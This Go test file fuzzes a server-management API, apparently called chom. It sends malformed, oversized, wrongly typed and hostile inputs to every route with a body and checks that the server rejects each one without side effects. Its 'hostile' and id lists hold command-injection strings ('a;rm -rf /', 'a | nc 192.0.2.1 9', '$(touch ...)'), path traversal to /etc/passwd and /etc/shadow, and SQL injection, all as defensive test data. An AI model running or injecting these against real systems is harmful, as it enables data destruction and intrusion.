package faults_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"math"
	"net/http"
	"net/url"
	"os"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/getkin/kin-openapi/openapi3"

	"github.com/chomhq/chom/server/internal/apitest"
	"github.com/chomhq/chom/server/internal/store"
	"github.com/chomhq/chom/server/internal/testhost"
)

// Field classes of the sweep. Free text is a human-readable note or name:
// any printable text is valid there, control characters are not. Opaque
// values are secrets the server only compares or hashes: anything is a
// valid guess. Every other string field is interpreted — a host name, an
// id, an enumeration, a path, a key — and hostile text is wrong there.
var (
	freeTextFields = []string{"name", "organization_name", "description"}
	opaqueFields   = []string{"password", "token", "code", "totp_code", "recovery_code"}
)

// hostile is text that must never reach a shell, a path or a query as is.
var hostile = []string{
	"$(touch /tmp/chom-sweep)", "`id`", "a;rm -rf /", "a && reboot", "a | nc 192.0.2.1 9", `'"\`,
	"../../../../etc/passwd", "/etc/shadow", `..\..\windows`, "a/../../b",
	"%2e%2e%2f%2e%2e%2f", "' OR '1'='1", "\"; DROP TABLE sites; --",
	"\x00", "a\x00b", "\x1b[31mred", "line\nbreak", "tab\there", "\u202egnp.exe", "\ufeffbom", "ｅｘａｍｐｌｅ",
	"😀", strings.Repeat("a", 5000),
}

// controls are the characters no free text may hold.
var controls = []string{"a\x00b", "\x1b[31mred", "line\nbreak", "bell\a", "cr\rlf"}

// malformed bodies, none of them a JSON object.
var malformed = []string{
	"", "{", `{"a":`, `{"a" 1}`, `{"a":1,}`, "[]", `"text"`, "123", "null", "true",
	`{}{}`, `{"a":1} x`, "\xff\xfe{", strings.Repeat("[", 20000), "<xml/>",
}

// sweepBase is, per route, a body that the server refuses for a reason of
// its own — an e-mail already taken, a server with no room, a required
// field left empty — so that every variant of it is refused too, and each
// variant changes one field only. Path ids come from the fixture.
func sweepBase(f *sweepFixture) map[string]map[string]any {
	return map[string]map[string]any{
		"POST /api/v1/auth/login":    {"email": f.owner.Email, "password": "not-the-password-1"},
		"POST /api/v1/auth/register": {"name": "Sweep", "email": f.owner.Email, "password": "long-enough-password-1", "organization_name": "Sweep"},
		// The organization may keep no backup.
		"POST /api/v1/backups": {"site_id": f.siteID},
		// The backup has not completed.
		"POST /api/v1/backups/{id}/restore": {"target_site_id": f.siteID},
		"POST /api/v1/invitations/accept":   {"token": "chom_inv_" + strings.Repeat("x", 40), "password": "long-enough-password-1"},
		// Two-factor authentication is not enrolled.
		"POST /api/v1/me/2fa/confirm":        {"code": "123456"},
		"POST /api/v1/me/2fa/disable":        {"password": f.owner.Password, "code": "123456"},
		"POST /api/v1/me/2fa/recovery-codes": {"code": "123456"},
		"POST /api/v1/me/2fa/enroll":         nil,
		"PATCH /api/v1/organization":         {},
		// The server named is full.
		"POST /api/v1/sites":                     {"domain": "sweep-" + suffix() + ".example.test", "type": "html", "vps_id": f.fullVPSID},
		"PATCH /api/v1/sites/{id}":               {},
		"PUT /api/v1/sites/{id}/backup-schedule": {"enabled": true, "frequency": "cron"},
		"PUT /api/v1/sites/{id}/certificate":     {"cert_pem": "not a certificate", "key_pem": "not a key"},
		"POST /api/v1/team/members":              {"email": f.owner.Email, "role": "member"},
		"PATCH /api/v1/team/members/{id}":        {},
		"POST /api/v1/tokens":                    {"name": "", "abilities": []string{"read"}},
		"POST /api/v1/vps":                       {"name": "sweep", "host": "192.0.2.10", "ssh_private_key": "not a key"},
		"PATCH /api/v1/vps/{id}":                 {},
	}
}

// sweepFixture is what the sweep's requests point at.
type sweepFixture struct {
	*watched
	owner                                        *apitest.Tenant
	vpsID, fullVPSID, siteID, backupID, memberID string
	hosts                                        []testhost.Host
}

// ids maps the collection a path's {id} belongs to onto the fixture's id.
func (f *sweepFixture) id(t *testing.T, path string) string {
	t.Helper()
	for prefix, id := range map[string]string{
		"/api/v1/backups/": f.backupID, "/api/v1/sites/": f.siteID, "/api/v1/team/members/": f.memberID,
		"/api/v1/vps/": f.vpsID, "/api/v1/operations/": store.NewID(), "/api/v1/tokens/": store.NewID(),
	} {
		if strings.HasPrefix(path, prefix) {
			return id
		}
	}
	t.Fatalf("the sweep has no id for %s: add one to sweepFixture.id", path)
	return ""
}

// newSweepFixture makes a tenant with a server, a site, a backup and an
// invited member. With CHOM_INTEGRATION=1 the server is the first test
// host, registered and bootstrapped, and the site is really on it, with
// the workers running: a request that got through would change the host.
func newSweepFixture(t *testing.T) (*sweepFixture, *apitest.Env) {
	t.Helper()
	e := apitest.New(t, apitest.WithEnv("CHOM_ALLOWED_NETWORKS", "10.77.0.0/16"))
	w := watch(t, e, "")
	f := &sweepFixture{watched: w, owner: w.owner}
	ctx := context.Background()
	if os.Getenv("CHOM_INTEGRATION") == "1" {
		f.hosts = testhost.Hosts(t)
		if err := e.Server.Jobs.Start(ctx); err != nil {
			t.Fatal(err)
		}
		f.vpsID = w.registerVPS(t, f.hosts[0], 10)
		s, op := w.startSite(t, map[string]any{"domain": "sweep-" + suffix() + ".example.test", "type": "html", "vps_id": f.vpsID})
		f.siteID = s.ID
		sites := []string{s.ID}
		w.removeSites(t, &sites)
		if got := w.wait(t, op, 5*time.Minute); got["status"] != "succeeded" {
			t.Fatalf("create the sweep's site: %v", got["error"])
		}
	} else {
		f.vpsID = seedVPS(t, e, w.owner.OrgID, 10, 0)
		s, _ := w.startSite(t, map[string]any{"domain": "sweep-" + suffix() + ".example.test", "type": "html", "vps_id": f.vpsID})
		f.siteID = s.ID
	}
	// Idle, so that a request that got through would start an operation.
	active := store.SiteActive
	if err := e.Server.Store.UpdateSite(ctx, w.owner.OrgID, f.siteID, nil, store.SiteUpdate{Status: &active}); err != nil {
		t.Fatal(err)
	}
	f.fullVPSID = seedVPS(t, e, w.owner.OrgID, 1, 1)
	b := &store.Backup{ID: store.NewID(), OrganizationID: w.owner.OrgID, SiteID: f.siteID, SiteType: "html", Type: "full", Status: store.BackupPending}
	if err := e.Server.Store.CreateBackup(ctx, b); err != nil {
		t.Fatal(err)
	}
	f.backupID = b.ID
	if _, err := e.Server.Store.SQLDB().ExecContext(ctx, rebind(e, "UPDATE organizations SET max_backups = 0 WHERE id = ?"), w.owner.OrgID); err != nil {
		t.Fatal(err)
	}
	resp := w.do(t, http.MethodPost, "/api/v1/team/members", map[string]any{"email": "invitee-" + suffix() + "@example.com", "role": "member"})
	if resp.Status != http.StatusCreated {
		t.Fatalf("invite: %d %s", resp.Status, resp.Body)
	}
	f.memberID = resp.Map(t)["id"].(string)
	return f, e
}

func rebind(e *apitest.Env, q string) string {
	if e.Server.Store.Dialect() == store.Postgres {
		return strings.Replace(q, "?", "$1", 1)
	}
	return q
}

// variant is one request of the sweep.
type variant struct {
	what  string
	body  []byte
	field string // the field at fault, "" when the body as a whole is
	// named requires a 422 to name field.
	named bool
	// want, when set, is the only acceptable status, and its error must
	// name field: 422 for a value of the wrong JSON type, 400 for an
	// unknown field.
	want int
}

// TestBadInputSweep sends every POST, PATCH and PUT route of the OpenAPI
// document malformed JSON, oversize bodies, unknown fields, values of the
// wrong type for every field, and hostile text — shell metacharacters,
// path traversal, SQL, control and odd Unicode characters — in every
// string field; and every route with an {id}, hostile ids. Every answer
// must be a 4xx that matches the document, naming the field at fault;
// afterwards the database holds exactly what it held before, and so, with
// CHOM_INTEGRATION=1, do the hosts.
func TestBadInputSweep(t *testing.T) {
	f, e := newSweepFixture(t)
	doc := apitest.Document(t)
	bases := sweepBase(f)

	_, before := dumpDB(t, e.Server.Store.SQLDB(), e.Server.Store.Dialect())
	hostsBefore := map[string]string{}
	for _, h := range f.hosts {
		hostsBefore[h.Name] = hostState(t, h)
	}

	paths := doc.Paths.Map()
	templates := slices.Sorted(maps.Keys(paths))
	sent, routes := 0, 0
	for _, tmpl := range templates {
		for _, method := range slices.Sorted(maps.Keys(paths[tmpl].Operations())) {
			op := paths[tmpl].Operations()[method]
			path := tmpl
			if strings.Contains(tmpl, "{id}") {
				path = strings.Replace(tmpl, "{id}", f.id(t, tmpl), 1)
				if method == http.MethodGet || method == http.MethodDelete {
					sent += f.sweepIDs(t, method, tmpl)
				}
			}
			if op.RequestBody == nil || (method != http.MethodPost && method != http.MethodPatch && method != http.MethodPut) {
				continue
			}
			route := method + " " + tmpl
			base, ok := bases[route]
			if !ok {
				t.Errorf("%s has no base body in sweepBase: add one", route)
				continue
			}
			routes++
			schema := op.RequestBody.Value.Content.Get("application/json").Schema.Value
			for _, v := range variants(schema, base, op.RequestBody.Value.Required) {
				f.check(t, method, path, route, v)
				sent++
			}
			sent += f.oversize(t, method, path, route, e)
		}
	}
	t.Logf("%d requests over %d routes with a body", sent, routes)

	_, after := dumpDB(t, e.Server.Store.SQLDB(), e.Server.Store.Dialect())
	for _, table := range slices.Sorted(maps.Keys(before)) {
		if before[table] != after[table] {
			t.Errorf("table %s changed: %+v → %+v", table, before[table], after[table])
		}
	}
	for table := range after {
		if _, ok := before[table]; !ok {
			t.Errorf("table %s appeared", table)
		}
	}
	for _, h := range f.hosts {
		if got := hostState(t, h); got != hostsBefore[h.Name] {
			t.Errorf("%s changed: /etc/nginx, /etc/php, /srv/chom or the users differ (checksum %s → %s)", h.Name, hostsBefore[h.Name], got)
		}
	}
}

// check sends one variant and judges the answer.
func (f *sweepFixture) check(t *testing.T, method, path, route string, v variant) {
	t.Helper()
	resp := f.do(t, method, path, v.body, apitest.Invalid())
	where := fmt.Sprintf("%s with %s", route, v.what)
	if resp.Status < 400 || resp.Status >= 500 {
		t.Errorf("%s: answered %d, want a 4xx: %.300s", where, resp.Status, resp.Body)
		return
	}
	if v.want != 0 && resp.Status != v.want {
		t.Errorf("%s: answered %d, want %d naming %s: %.300s", where, resp.Status, v.want, v.field, resp.Body)
		return
	}
	if (v.want != 0 || (v.named && resp.Status == http.StatusUnprocessableEntity)) && !names(resp.ErrorFields(t), v.field) {
		t.Errorf("%s: the %d does not name %s: %.300s", where, resp.Status, v.field, resp.Body)
	}
}

// names reports whether fields has field, or one of its elements or keys.
func names(fields map[string]string, field string) bool {
	for k := range fields {
		if k == field || strings.HasPrefix(k, field+"[") || strings.HasPrefix(k, field+".") {
			return true
		}
	}
	return false
}

// oversize sends a body one byte over the limit, with its length declared
// and streamed without one: both must be 413.
func (f *sweepFixture) oversize(t *testing.T, method, path, route string, e *apitest.Env) int {
	t.Helper()
	limit := int(e.Server.Config.MaxBodyBytes)
	big := []byte(`{"name":"` + strings.Repeat("a", limit) + `"}`)
	if resp := f.do(t, method, path, big, apitest.Invalid()); resp.Status != http.StatusRequestEntityTooLarge {
		t.Errorf("%s with a body of %d bytes: %d, want 413", route, len(big), resp.Status)
	}
	req, err := http.NewRequestWithContext(context.Background(), method, e.URL+path, io.MultiReader(bytes.NewReader(big)))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+f.token)
	req.Header.Set("Content-Type", "application/json")
	resp, err := e.HTTP.Do(req)
	if err != nil {
		// The server may close the connection on a body it will not read.
		return 2
	}
	body, _ := io.ReadAll(resp.Body)
	_ = resp.Body.Close()
	f.bodies.observe(method, path, resp.StatusCode, body)
	if resp.StatusCode != http.StatusRequestEntityTooLarge {
		t.Errorf("%s with a streamed body of %d bytes: %d, want 413: %.200s", route, len(big), resp.StatusCode, body)
	}
	return 2
}

// sweepIDs sends GET or DELETE to a route with hostile ids: each must be
// answered 404 or 400.
func (f *sweepFixture) sweepIDs(t *testing.T, method, tmpl string) int {
	t.Helper()
	ids := []string{"..", "...", "' OR '1'='1", "$(id)", "a;b", "%00", "\x7f", strings.Repeat("9", 300), "00000000-0000-0000-0000-000000000000"}
	for _, id := range ids {
		path := strings.Replace(tmpl, "{id}", url.PathEscape(id), 1)
		resp := f.do(t, method, path, nil, apitest.Invalid())
		if resp.Status != http.StatusNotFound && resp.Status != http.StatusBadRequest {
			t.Errorf("%s %s with id %q: %d, want 404 or 400: %.200s", method, tmpl, id, resp.Status, resp.Body)
		}
	}
	return len(ids)
}

// variants derives the sweep's bodies for one route from its schema.
func variants(schema *openapi3.Schema, base map[string]any, required bool) []variant {
	with := func(field string, value any) []byte {
		body := maps.Clone(base)
		if body == nil {
			body = map[string]any{}
		}
		body[field] = value
		b, _ := json.Marshal(body)
		return b
	}
	var out []variant
	for _, m := range malformed {
		if m == "" && !required {
			continue // no body at all is what an optional body allows
		}
		out = append(out, variant{what: fmt.Sprintf("the malformed body %.40q", m), body: []byte(m)})
	}
	out = append(out, variant{what: "an unknown field", body: with("zz_not_a_field", 1), field: "zz_not_a_field", want: http.StatusBadRequest})
	for _, name := range slices.Sorted(maps.Keys(schema.Properties)) {
		prop := resolve(schema.Properties[name].Value)
		for _, bad := range wrongTypes(prop) {
			out = append(out, variant{what: fmt.Sprintf("%s = %s", name, short(bad)), body: with(name, bad), field: name, want: http.StatusUnprocessableEntity})
		}
		for _, bad := range hostileValues(name, prop) {
			out = append(out, variant{what: fmt.Sprintf("%s = %s", name, short(bad)), body: with(name, bad), field: name, named: !slices.Contains(opaqueFields, name)})
		}
	}
	return out
}

func resolve(s *openapi3.Schema) *openapi3.Schema {
	if (s.Type == nil || len(*s.Type) == 0) && len(s.AllOf) > 0 {
		return s.AllOf[0].Value
	}
	return s
}

func typeOf(s *openapi3.Schema) string {
	if s.Type == nil {
		return ""
	}
	for _, t := range []string{"string", "integer", "number", "boolean", "array", "object"} {
		if s.Type.Is(t) {
			return t
		}
	}
	return ""
}

// wrongTypes are JSON values of every type but the field's.
func wrongTypes(s *openapi3.Schema) []any {
	all := map[string]any{"string": "text", "number": 1.5, "boolean": true, "array": []any{}, "object": map[string]any{}}
	var out []any
	typ := typeOf(s)
	for _, k := range slices.Sorted(maps.Keys(all)) {
		if k == typ || (k == "number" && typ == "integer") {
			continue
		}
		out = append(out, all[k])
	}
	switch typ {
	case "integer":
		out = append(out, 1.5)
	case "array":
		if s.Items != nil && typeOf(resolve(s.Items.Value)) == "string" {
			out = append(out, []any{1})
		}
	case "object":
		if ap := s.AdditionalProperties.Schema; ap != nil && typeOf(ap.Value) == "string" {
			out = append(out, map[string]any{"KEY": 1})
		}
	}
	return out
}

// hostileValues are values of the right type that are wrong for the field.
func hostileValues(name string, s *openapi3.Schema) []any {
	var out []any
	switch typeOf(s) {
	case "string":
		switch {
		case slices.Contains(freeTextFields, name):
			for _, c := range controls {
				out = append(out, c)
			}
		default:
			for _, h := range hostile {
				out = append(out, h)
			}
		}
		if s.MaxLength != nil {
			out = append(out, strings.Repeat("a", int(*s.MaxLength)+1))
		}
		if len(s.Enum) > 0 {
			out = append(out, "not-one-of-them")
		}
	case "integer":
		if s.Min != nil {
			out = append(out, *s.Min-1)
		}
		if s.Max != nil {
			out = append(out, *s.Max+1)
		}
		out = append(out, math.MaxInt64, -math.MaxInt64)
	case "array":
		if s.Items != nil && typeOf(resolve(s.Items.Value)) == "string" {
			for _, h := range hostile {
				out = append(out, []any{h})
			}
		}
	case "object":
		for _, h := range hostile {
			out = append(out, map[string]any{h: "value"})
		}
		for _, c := range controls {
			out = append(out, map[string]any{"KEY": c})
		}
	}
	return out
}

func short(v any) string {
	b, _ := json.Marshal(v)
	s := string(b)
	if len(s) > 60 {
		s = s[:60] + "…"
	}
	return s
}

// The sweep must send a bad body to every route the document lists with
// one; this guards the list of routes the sweep knows against the document.
func TestSweepCoversEveryRouteWithABody(t *testing.T) {
	doc := apitest.Document(t)
	bases := sweepBase(&sweepFixture{owner: &apitest.Tenant{}})
	var missing, stale []string
	listed := map[string]bool{}
	for tmpl, item := range doc.Paths.Map() {
		for method, op := range item.Operations() {
			if op.RequestBody == nil {
				continue
			}
			route := method + " " + tmpl
			listed[route] = true
			if _, ok := bases[route]; !ok {
				missing = append(missing, route)
			}
		}
	}
	for route := range bases {
		if !listed[route] {
			stale = append(stale, route)
		}
	}
	sort.Strings(missing)
	sort.Strings(stale)
	if len(missing) > 0 || len(stale) > 0 {
		t.Fatalf("sweepBase misses %q and lists routes the document does not have %q", missing, stale)
	}
	if len(listed) < 10 {
		t.Fatalf("the document lists only %d routes with a body", len(listed))
	}
}
